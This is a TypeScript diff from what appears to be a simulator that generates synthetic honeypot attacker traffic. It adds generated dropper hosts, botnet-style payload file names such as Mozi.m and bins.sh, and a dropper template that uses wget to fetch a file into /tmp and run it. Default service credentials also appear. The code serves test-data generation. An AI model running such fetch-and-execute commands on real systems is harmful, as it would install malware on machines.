@@ -8,7 +8,8 @@
  * pairs, the "mdrfckr" SSH-key script …) followed by a synthetic tail that is generated from the
  * rank, so a tail of any length costs no memory.
  */
-import { Rng, WeightedTable, zipfWeights } from "./prng.ts";
+import { isReserved, numberToIp } from "./addresses.ts";
+import { Rng, WeightedTable, hash32, zipfWeights } from "./prng.ts";
 import { SSH_CLIENTS } from "./ssh-clients.ts";
 import type { SshClient } from "./ssh-clients.ts";
 
@@ -110,7 +111,7 @@ class LongTail {
   private readonly ranks: WeightedTable<number>;
 
   constructor(private readonly head: readonly string[], private readonly tail: (rank: number) => string, size: number, exponent: number) {
-    const n = Math.max(size, head.length);
+    const n = Math.max(size, head.length, 1);
     this.ranks = new WeightedTable(Array.from({ length: n }, (_, i) => i), zipfWeights(n, exponent));
   }
 
@@ -198,6 +199,17 @@ const SERVICE_CREDENTIALS: Readonly<Record<"mssqld" | "mysqld" | "ftpd", Readonl
   ftpd: [["anonymous", "anonymous@"], ["anonymous", "IEUser@"], ["admin", "admin"], ["ftp", "ftp"], ["root", "123456"], ["user", "user"], ["anonymous", "guest@example.com"]],
 };
 
+const TAIL_FILES = ["x86", "mips", "arm", "arm7", "bins.sh", "a.sh", "i", "x", "sshd", "kworker", "Mozi.m", "update.sh", ".x/y", "dvr"];
+
+/** A public-looking IPv4 host for a tail rank (never a reserved range). */
+function tailHost(rank: number, seed: number): string {
+  for (let salt = 0; ; salt++) {
+    const n = hash32(`dl-host-${rank}-${salt}`, seed);
+    const ip = numberToIp(n);
+    if (!isReserved(ip) && n % 256 !== 0 && n % 256 !== 255) return ip;
+  }
+}
+
 /** A pseudo-random 64-hex digest that is the same for the same text (a stand-in SHA-256). */
 function stableSha256(text: string, seed: number): string {
   // Four rounds of a 32-bit mix over the text give 256 bits; this is not a hash of any file,
@@ -231,8 +243,10 @@ export function createAttackerValues(opts: ValueOptions): AttackerValues {
   const paths = new WeightedTable(HTTP_PATHS, zipfWeights(HTTP_PATHS.length, 0.8));
   const recon = new WeightedTable(RECON_LINES, zipfWeights(RECON_LINES.length, 1.0));
 
+  // Past the named campaigns, a long tail of one-off droppers: a host and a file name per rank.
+  const tailHosts = new LongTail([], (rank) => tailHost(rank, opts.seed), Math.round(400 * Math.max(0.1, opts.scale)), 1.1);
   const download = (rng: Rng): { step: CommandStep } => {
-    const campaign = campaigns.pick(rng);
+    const campaign = rng.chance(0.85) ? campaigns.pick(rng) : { host: tailHosts.pick(rng), files: [rng.pick(TAIL_FILES)], deadRate: 0.5, dropper: "cd /tmp; wget {url}; chmod +x {file}; ./{file}" };
     const file = rng.pick(campaign.files);
     const url = `http://${campaign.host}/${file}`;
     const dl: Download = { url, sha256: stableSha256(url, opts.seed), dead: rng.chance(campaign.deadRate) };
